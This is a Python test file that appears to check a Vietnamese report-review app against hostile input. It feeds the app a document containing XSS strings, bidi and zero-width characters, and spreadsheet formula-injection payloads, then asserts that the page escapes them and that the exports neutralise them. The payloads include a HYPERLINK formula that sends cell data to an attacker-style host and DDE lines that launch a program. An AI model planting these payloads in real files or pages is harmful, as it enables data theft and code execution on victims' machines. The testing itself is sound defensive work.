"""7. Hostile report text: script tags, javascript: links, bidi overrides and zero-width
characters, a 1 MB paragraph, formula cells. The record keeps the text; the review page shows
it inert; Excel and CSV exports never run it as a formula."""

from __future__ import annotations

import csv
import random
import re

import docx
import openpyxl
import pytest
from fastapi.testclient import TestClient

from flows.pipeline import ingest_file
from review.app import create_app
from review.security import hash_password
from storage.exports import export
from storage.repository import Repository, corrected_records
from storage.safe_cells import safe_cell
from tests.reliability.conftest import report

pytestmark = pytest.mark.slow

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]
SCRIPT = '<script>alert("x")</script><a href="javascript:alert(1)">liên kết</a>'
BIDI = "Tỉnh \u202egnàup\u202c quảng\u200b bá\u200d hình\u2066 ảnh\u2069"


def _hostile_docx(path):
    d = docx.Document()
    d.add_paragraph("ỦY BAN NHÂN DÂN TỈNH PHÚ THỌ")
    d.add_paragraph("Số: 78/BC-UBND")
    d.add_paragraph("Phú Thọ, ngày 21 tháng 9 năm 2024")
    d.add_paragraph("BÁO CÁO")
    d.add_paragraph("Kết quả truyền thông quảng bá hình ảnh tỉnh ra nước ngoài")
    d.add_heading("I. THỰC TRẠNG XÂY DỰNG VÀ TRIỂN KHAI KẾ HOẠCH", level=1)
    d.add_paragraph(f'Thông điệp chính của tỉnh là "{SCRIPT}".')
    d.add_paragraph(f"Năm 2023, {BIDI} đón 120.000 lượt khách quốc tế.")
    # 1 MB in one paragraph, varied enough not to look like a zip bomb (ratio limit 200x).
    rng = random.Random(7)
    words = "quảng bá hình ảnh địa phương du lịch văn hóa đối ngoại tỉnh năm khách quốc tế".split()
    long = " ".join(rng.choice(words) + str(rng.randrange(1000)) for _ in range(120_000))
    d.add_paragraph("Nội dung dài: " + long[:1_000_000])
    d.add_heading("III. ĐỀ XUẤT, KIẾN NGHỊ", level=1)
    for f in FORMULAS:
        d.add_paragraph(f)
    d.add_paragraph(f"Đề nghị Bộ hỗ trợ {SCRIPT}.")
    d.save(path)
    return path


def test_hostile_text_is_kept_in_the_record_inert_on_the_page_and_in_exports(tmp_path, sqlite_ws):
    path = _hostile_docx(tmp_path / "PhuTho_78.docx")
    outcome = ingest_file(path, sqlite_ws)
    assert outcome.status == "processed", outcome.error
    with sqlite_ws.sessions().begin() as s:
        repo = Repository(s)
        repo.add_user("lan", "reviewer", hash_password("mat-khau-lan-1"))
        doc = repo.by_sha(outcome.sha256)
        record = repo.current_record(doc).record
        records = [r for _, r in corrected_records(repo)]
        doc_id = doc.id
    flat = str(record)
    # The record intact: the texts are there as written (the readers normalise to NFC only).
    assert "<script>alert(" in flat and "javascript:alert(1)" in flat
    # Zero-width characters are dropped by the readers' normalisation (extractors/text.py); the
    # figure in the sentence they were scattered through is still read.
    assert "\u200b" not in flat and "\u200d" not in flat
    assert any(f.get("value") == 120000 for f in record["figures"]), record["figures"]
    assert any(f.split("|")[0][:12] in flat for f in FORMULAS)

    # The page: escaped, no live script or javascript: link.
    client = TestClient(create_app(sqlite_ws, secret=b"k" * 32))
    token = re.search(r'name="csrf" value="([^"]+)"', client.get("/login").text).group(1)
    client.post("/login", data={"name": "lan", "password": "mat-khau-lan-1", "csrf": token})
    html = client.get(f"/documents/{doc_id}").text
    assert "<script>alert(" not in html and 'href="javascript:' not in html
    assert "&lt;script&gt;alert(" in html
    assert "script-src" in client.get("/").headers.get("content-security-policy", "")

    # Exports: every cell starting a formula is prefixed, in every CSV table and every sheet.
    starts = ("=", "+", "-", "@")
    live = []
    for table in ("records", "key_messages", "recommendations", "assessment", "figures"):
        out = export(records, "csv", tmp_path / f"{table}.csv", table=table)
        with out.open(encoding="utf-8") as fh:
            live += [c for row in csv.reader(fh) for c in row if c.startswith(starts)]
    xlsx = export(records, "xlsx", tmp_path / "records.xlsx")
    book = openpyxl.load_workbook(xlsx)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    live += [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(starts)]
    live += [c.value for c in cells if c.data_type == "f"]
    neutralised = sum(isinstance(c.value, str) and c.value.startswith("'") for c in cells)
    report("hostile_text", record_chars=len(flat), xlsx_cells=len(cells), neutralised_cells=neutralised,
           live_formulas=len(live))
    assert live == []
    assert neutralised > 0  # the formula paragraphs reached the workbook, made inert


def test_safe_cell_follows_owasp():
    """Regression: exports wrote report text starting with = + - @ as is; openpyxl even stored
    '=HYPERLINK(...)' as a live formula."""
    assert safe_cell('=HYPERLINK("x")') == '\'=HYPERLINK("x")'
    assert [safe_cell(v) for v in ("+1", "-1", "@a", "\tx", "\uff1dx")] == ["'+1", "'-1", "'@a", "'\tx", "'\uff1dx"]
    assert safe_cell("Hà Nội") == "Hà Nội" and safe_cell(-5) == -5 and safe_cell(None) is None
